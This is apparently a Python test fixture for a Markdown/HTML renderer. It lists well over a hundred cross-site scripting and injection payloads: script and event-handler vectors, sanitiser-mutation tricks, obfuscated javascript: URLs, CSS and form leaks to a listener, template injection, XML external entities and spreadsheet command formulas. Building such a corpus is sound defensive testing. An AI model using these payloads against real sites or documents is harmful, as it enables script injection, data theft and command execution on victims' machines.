"""Attacks in words: all ways we know of to make a text run, load, lead away or take a page over.

``{j}`` stands for a script that tells on itself, ``{l}`` for an address at the listening server; both name the attack.
"""

from base64 import b64encode

# What an attack writes into: the page keeps the list, and a test finds it empty.
LIST = "__angrep"

INLINE = {
    "script": "<script>{j}</script>",
    "script-fra": "<script src={l}></script>",
    "script-modul": '<script type="module" src="{l}"></script>',
    "script-skraa": "<script/x>{j}</script>",
    "script-store": "<ScRiPt>{j}</sCrIpT>",
    "script-luft": "<script >{j}</script >",
    "script-i-script": "<scr<script>ipt>{j}</scr</script>ipt>",
    "script-dobbel": "<<script>{j}//<</script>",
    "script-uten-slutt": "<script>{j}//",
    "importkart": '<script type="importmap">{"imports":{"x":"{l}"}}</script>',
    "spekulasjon": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{l}"]}]}</script>',
    "img-feil": "<img src=x onerror={j}>",
    "img-fra": '<img src="{l}">',
    "img-utvalg": '<img srcset="{l} 1x" src="">',
    "img-skraa": "<img/src=x/onerror={j}>",
    "img-hermetegn": '<img """><script>{j}</script>">',
    "img-grav": "<img src=`x` onerror=`{j}`>",
    "img-ny-linje": "<img\nsrc=x\nonerror={j}>",
    "bilde-kilde": '<picture><source srcset="{l}"><img alt=x></picture>',
    "svg-lastet": "<svg onload={j}>",
    "svg-skraa": "<svg/onload={j}>",
    "svg-script": "<svg><script>{j}</script></svg>",
    "svg-script-href": '<svg><script href="{l}"/></svg>',
    "svg-animert": "<svg><animate onbegin={j} attributeName=x dur=1s></svg>",
    "svg-satt-lenke": '<svg><a><set attributeName=href to="javascript:{j}"/><text x=9 y=20>x</text></a></svg>',
    "svg-bruk": '<svg><use href="{l}#x"/></svg>',
    "svg-bruk-data": f'<svg><use href="data:image/svg+xml;base64,{b64encode(b"<svg id=x xmlns=http://www.w3.org/2000/svg><script>top.__angrep.push(1)</script></svg>").decode()}#x"/></svg>',
    "svg-bilde": '<svg><image href="{l}"/></svg>',
    "svg-fremmed": "<svg><foreignObject><iframe srcdoc='<script>{j}</script>'></iframe></foreignObject></svg>",
    "svg-filter": '<svg><filter id=f><feImage href="{l}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
    "matte-lenke": '<math><mtext href="javascript:{j}">x</mtext></math>',
    "matte-mutasjon": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={j}&gt;">',
    "noscript-mutasjon": '<noscript><p title="</noscript><img src=x onerror={j}>">',
    "stil-mutasjon": '<svg></p><style><a id="</style><img src=1 onerror={j}>">',
    "skjema-mutasjon": "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={j} src=1>'>",
    "ramme-tekst": "<iframe srcdoc='<script>{j}</script>'></iframe>",
    "ramme-fra": '<iframe src="{l}"></iframe>',
    "ramme-skript": '<iframe src="javascript:{j}"></iframe>',
    "rammesett": '<frameset onload={j}><frame src="{l}"></frameset>',
    "objekt": '<object data="{l}"></object>',
    "objekt-data": '<object data="data:text/html,<script>{j}</script>"></object>',
    "innlagt": '<embed src="{l}">',
    "miniprogram": '<applet code="{l}"></applet>',
    "grunnadresse": '<base href="{l}/"><base target="_blank">',
    "meta-videre": '<meta http-equiv="refresh" content="0;url={l}">',
    "meta-regler": """<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">""",
    "meta-referent": '<meta name="referrer" content="unsafe-url">',
    "stilark": '<link rel="stylesheet" href="{l}">',
    "forhandslast": '<link rel="preload" as="script" href="{l}"><link rel="dns-prefetch" href="{l}"><link rel="prefetch" href="{l}">',
    "modullast": '<link rel="modulepreload" href="{l}"><link rel="manifest" href="{l}"><link rel="icon" href="{l}">',
    "stil-hentet": '<style>@import "{l}";body{display:none}</style>',
    "stil-skrift": "<style>@font-face{font-family:x;src:url({l})}*{font-family:x}</style>",
    "stil-felt": '<p style="background:url({l});position:fixed;inset:0">x</p>',
    "stil-lekk": '<style>a[href^="/"]{background:url({l})}</style>',
    "skjema": '<form action="{l}"><button autofocus>Søk</button></form>',
    "skjema-felt": '<input name=sok form=sok><button form=sok formaction="{l}">Søk</button>',
    "skjema-skript": '<form action="javascript:{j}"><input type=submit autofocus></form>',
    "bilde-knapp": '<input type="image" src="{l}">',
    "fokus": "<input autofocus onfocus={j}>",
    "fokus-alt": "<x tabindex=0 autofocus onfocus={j}>x</x>",
    "fokus-valg": "<select autofocus onfocus={j}></select>",
    "redigerbar": "<div contenteditable autofocus onfocus={j}>x</div>",
    "utvidet": "<details open ontoggle={j}><summary>x</summary></details>",
    "dialog": "<dialog open onclose={j}><form method=dialog><button autofocus>x</button></form></dialog>",
    "sprett": "<div popover id=pp onbeforetoggle={j}></div><button popovertarget=pp>x</button>",
    "video": '<video src="{l}" autoplay onloadstart={j}></video>',
    "video-plakat": '<video poster="{l}"></video>',
    "lyd": '<audio src="{l}" autoplay></audio>',
    "spor": '<video><track default src="{l}"></video>',
    "kropp": '<body onload={j} background="{l}">',
    "kropp-hendelser": "<body onpageshow={j} onhashchange={j} onscroll={j}>",
    "tabell-bakgrunn": '<table background="{l}"><td background="{l}">x</table>',
    "rulletekst": "<marquee onstart={j}>x</marquee>",
    "animert": "<p style=animation-name:x onanimationstart={j}>x</p>",
    "overgang": "<p id=pkt-1 style=transition:1s onanimationend={j} ontransitionend={j}>x</p>",
    "pekt": "<a href=# onmouseover={j} onpointerenter={j} onclick={j}>x</a>",
    "mal": "<template shadowrootmode=open><script>{j}</script></template>",
    "tittel-brudd": "</title><script>{j}</script>",
    "felt-brudd": "</textarea><script>{j}</script>",
    "stil-brudd": "</style><script>{j}</script>",
    "script-brudd": "</script><script>{j}</script>",
    "merknad-brudd": "--><script>{j}</script><!--",
    "merknad-brudd-2": "--!><script>{j}</script>",
    "cdata-brudd": "]]><script>{j}</script><![CDATA[",
    "ramme-brudd": "</p></section></article></main></body></html><script>{j}</script>",
    "hermetegn": '" onmouseover="{j}" autofocus onfocus="{j}" x="',
    "apostrof": "' onmouseover='{j}' autofocus onfocus='{j}' x='",
    "grav": "` onfocus=`{j}` autofocus x=`",
    "luft": " onfocus={j} autofocus tabindex=0 ",
    "json": """"}]}'><img src=x onerror={j}>""",
    "json-script": "\\u003c/script\\u003e\\u003cscript\\u003e{j}\\u003c/script\\u003e",
    "entiteter": "&lt;script&gt;{j}&lt;/script&gt;",
    "entiteter-tall": "&#60;img src=x onerror={j}&#62;",
    "entiteter-heks": "&#x3c;img src=x onerror={j}&#x3e;",
    "entiteter-uten-slutt": "&#60img src=x onerror={j}&#62",
    "entiteter-doble": "&amp;lt;img src=x onerror={j}&amp;gt;",
    "brede-tegn": "＜script＞{j}＜/script＞",
    "utf-7": "+ADw-script+AD4-{j}+ADw-/script+AD4-",
    "xml-stil": '<?xml-stylesheet type="text/xsl" href="{l}"?>',
    "xml-entitet": '<!DOCTYPE x [<!ENTITY e SYSTEM "{l}">]>&e;',
    "php": "<?php {j} ?>",
    "mal-uttrykk": "{{ ''.__class__.__mro__ }}{{ 7 * 191 }}{% include 'skall.html' %}{# x #}",
    "mal-js": "${constructor.constructor('{j}')()}",
    "merker": '<!--lenke:pkt-1--><!--slutt:pkt-1--><a data-ref="0">x</a>',
    "merker-attributt": '<p class="ledd" data-kommer=\'[{"fra":"2000-01-01","tone":"gjeldende","ord":"<img src=x onerror={j}>"}]\'>',
    "navn-form": "<form name=__angrep><input name=push></form>",
    "navn-id": "<a id=__angrep></a><a id=__angrep name=push href=x>y</a><img name=currentScript><img name=querySelector>",
    "navn-rot": '<a id="innhold" href="x"></a><form id=body><input name=dataset></form>',
    "md-felt": "{: onclick={j} #innhold .hopp }",
    "md-referanse": "[x]: javascript:{j}\n[x]",
    "md-tittel": """[x](https://a.example 'tittel\\' onclick={j}')""",
    "md-alt": """![x" onerror="{j}](bilde.png)""",
    "md-fotnote": "Tekst[^1]\n\n[^1]: <script>{j}</script>",
    "md-kode": "`<script>{j}</script>` ```<img src=x onerror={j}>```",
    "md-automatisk": '<https://a.example/"onmouseover="{j}>',
    "md-post": '<ond@a.example"onclick={j}>',
    "md-innerst": "[![x](x.png)](javascript:{j})",
    "md-bilde": "![x]({l}) ![y][z]\n\n[z]: {l}",
    "regneark": "=cmd|' /C calc'!A0",
    "regneark-lenke": '=HYPERLINK("{l}";"klikk")',
    "regneark-pluss": "+1+1@SUM(1+1)*cmd|' /C calc'!A0",
}

_SCHEMES = (
    "javascript:{j}", "JaVaScRiPt:{j}", "JAVASCRIPT:{j}", "javascript://x%0a{j}", "javascript:/*--></title>*/{j}",
    "javascript&colon;{j}", "javascript&#58;{j}", "javascript&#x3a;{j}", "javascript&#0000058{j}",
    "&#106;avascript:{j}", "&#x6a;avascript:{j}", "&#X6A;AVASCRIPT:{j}", "&#x0006A&#x00061vascript:{j}",
    "java&Tab;script:{j}", "java&NewLine;script:{j}", "java&#x09;script:{j}", "java&#x0a;script:{j}", "java&#13;script:{j}",
    "&#1;javascript:{j}", "&#32;javascript:{j}", "&#x20;javascript:{j}", "&nbsp;javascript:{j}", "&#x3000;javascript:{j}",
    "%6Aavascript:{j}", "javascript%3A{j}", "%6a%61%76%61%73%63%72%69%70%74%3a{j}", "java%0ascript:{j}",
    "java\tscript:{j}", "java\nscript:{j}", "java\\script:{j}", "java\\\nscript:{j}", "\tjavascript:{j}",
    "vbscript:{j}", "VbScRiPt:{j}", "livescript:{j}", "mocha:{j}", "jar:javascript:{j}", "feed:javascript:{j}",
    "view-source:javascript:{j}", "data:text/html,<script>{j}</script>", "DATA:text/html,<script>{j}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19hbmdyZXAucHVzaCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={j}>",
    "data:application/xhtml+xml,<x/>", "data&colon;text/html,x", "blob:null/1", "filesystem:http://a/x", "file:///etc/passwd",
    "about:blank", "chrome://settings", "intent://a#Intent;end", "ms-word:ofe|u|{l}", "search-ms:query=x&crumb=location:{l}",
    "ws://a.example", "ftp://a.example", "urn:x", "jav\u0131script:{j}", "javaſcript:{j}", "ｊavascript:{j}", "javascript：{j}",
    "\\\\a.example\\x", "https:\\\\a.example", "//javascript:{j}", "x:javascript:{j}", 'https://a.example/" onclick="{j}',
    "https://a.example/' onfocus='{j}' autofocus '", "https://a.example/><script>{j}</script>", 'mailto:a@a.example" onclick="{j}',
    "mailto:a@a.example?body=x%0d%0aBcc:b@a.example", 'tel:1" onclick="{j}', '#" onclick="{j}', '?" onclick="{j}',
    "[x](javascript:{j})", "<javascript:{j}>", "javascript:{j}//https://", "https://a.example@javascript:{j}",
)  # fmt: skip
ADDRESSES = {f"adresse-{number}": address for number, address in enumerate(_SCHEMES)}
# All that an address can be written as in Markdown.
_WRITTEN = (
    "[x]({a})",
    "[x](<{a}>)",
    "<{a}>",
    "![x]({a})",
    "![x](<{a}>)",
    '[x]({a} "t")',
    "[x][r]\n\n[r]: {a}",
    "[r]\n\n[r]: <{a}>",
)

# Where in a text words can stand.
PLACES = {
    "avsnitt": "Tekst {a} slutt", "linje": "{a}", "overskrift": "## 1 {a}", "overskrift-under": "{a}\n===", "liste": "- {a}",
    "tallliste": "1. {a}\n    a) {a}", "sitat": "> {a}", "tabell": "| {a} | x |\n|---|---|\n| {a} | y |", "kode": "`{a}`",
    "kodeblokk": "    {a}", "gjerde": "~~~ {a}\n{a}\n~~~", "ord": "Ord\n:   {a}", "lenketekst": "[{a}](https://a.example)",
    "lenketittel": '[x](https://a.example "{a}")', "alt": "![{a}](flyt.png)", "uthevet": "**{a}** _{a}_", "etter": "{a}\n\n{a}",
    "henvisning": "Se {a} punkt 1 {a} og retningslinje 1 {a}",
}  # fmt: skip


def written(attack: str, name: str, listener: str) -> str:
    """Return an attack that tells its name, to the page and to the listening server."""
    return attack.replace("{j}", f"top.{LIST}.push(/{name}/.source)").replace("{l}", f"{listener}/{name}")


def breakout(name: str, listener: str) -> str:
    """Return the attack that gets out of most things one can be put into."""
    everything = (
        """"'`></title></textarea></style></script>--><svg onload={j}><script>{j}</script><img src={l} onerror={j}>"""
    )
    return written(everything, name, listener)


def inline(listener: str) -> dict[str, str]:
    """Return every attack on the running text."""
    return {name: written(attack, name, listener) for name, attack in INLINE.items()}


def links(listener: str) -> dict[str, str]:
    """Return every address in every way of writing it."""
    return {
        f"{name}-{way}": form.replace("{a}", written(address, f"{name}-{way}", listener)).replace(
            "[r]", f"[{name}-{way}]"
        )
        for name, address in ADDRESSES.items()
        for way, form in enumerate(_WRITTEN)
    }
